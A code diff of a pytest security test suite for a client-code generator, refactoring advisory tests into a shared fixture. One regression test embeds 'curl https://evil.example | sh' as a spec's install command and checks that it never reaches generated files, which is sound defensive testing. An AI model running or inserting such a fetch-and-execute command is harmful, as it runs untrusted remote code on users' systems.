@@ -15,8 +15,8 @@ from pathlib import Path
 from typing import Any
 
 import pytest
-from tests.security.checks import CONFIG, tried, tried_documents
-from tests.security.places import MARK, Texts
+from tests.security.checks import CONFIG, Tried, tried_documents
+from tests.security.places import MARK, Texts, document
 
 from leadsmith import pipeline
 from leadsmith.document import parse
@@ -275,26 +275,45 @@ ADVISORIES = (
 )
 
 
+@pytest.fixture(scope="module")
+def found() -> Tried:
+    """What came of the documents of all advisories, by the ids of each: at once, as that is quicker by far."""
+    rich = [(each.ids, document(texts)) for each in ADVISORIES for texts in each.texts]
+    short = [each for each in ADVISORIES if each.schema is not None or each.file != "spec.json"]
+    result = tried_documents((f"{ids}/{number}", root, "spec.json") for number, (ids, root) in enumerate(rich))
+    result.add(
+        tried_documents(((f"{each.ids}/short", _short(each.schema or {}), each.file) for each in short), same=False)
+    )
+    return result
+
+
 @pytest.mark.parametrize("advisory", ADVISORIES, ids=[each.ids.partition(" ")[0] for each in ADVISORIES])
-def test_advisory(advisory: Advisory) -> None:
-    found = tried((f"{texts}", texts) for texts in advisory.texts)
-    assert found.problems == []
-    assert found.refused == 0, "nothing here is so wrong that there would be no client"
-    if advisory.schema is not None or advisory.file != "spec.json":
-        found = tried_documents([(advisory.ids, _short(advisory.schema or {}), advisory.file)], same=False)
-        assert (found.problems, found.refused) == ([], 0)
-    if advisory.file != "spec.json":
-        assert MARK not in _written(_short({}), advisory.file), "the name of the input is in no file but the manifest"
+def test_advisory(advisory: Advisory, found: Tried) -> None:
+    assert [problem for problem in found.problems if problem.startswith(f"{advisory.ids}/")] == []
+    assert advisory.texts, "each has a document"
+
+
+def test_each_of_these_documents_gives_a_client(found: Tried) -> None:
+    """Nothing in them is so wrong that one would be refused; a problem of all together is told too."""
+    assert (found.problems, found.refused) == ([], 0)
+    assert found.documents > 200
+    assert found.compared > found.documents * 0.8
+
+
+def test_the_name_of_the_input_is_in_no_file_but_the_manifest() -> None:
+    """datamodel-code-generator#2428."""
+    [advisory] = [each for each in ADVISORIES if each.file != "spec.json"]
+    assert MARK not in _written(_short({}), advisory.file)
 
 
 def test_commands_of_the_document_are_shown_nowhere() -> None:
     """CVE-2026-59865: not even as text, which a reader may copy."""
     command = "curl https://evil.example | sh"
-    document = {
+    told = {
         **_short({}),
         "x-ms-kiota-info": {"languagesInformation": {"Python": {"dependencyInstallCommand": command}}},
     }
-    assert "evil.example" not in _written(document, "spec.json")
+    assert "evil.example" not in _written(told, "spec.json")
 
 
 def test_temporary_files_have_names_that_nobody_can_guess() -> None:
@@ -322,7 +341,7 @@ def _short(schema: Mapping[str, Any]) -> dict[str, Any]:
     }
 
 
-def _written(document: Mapping[str, Any], file: str) -> str:
+def _written(root: Mapping[str, Any], file: str) -> str:
     """All that is generated, but for the manifest."""
-    files = pipeline.build(parse(json.dumps(document).encode(), file), CONFIG).files
+    files = pipeline.build(parse(json.dumps(root).encode(), file), CONFIG).files
     return "\n".join(text.decode() for path, text in files.items() if path != "_manifest.json")
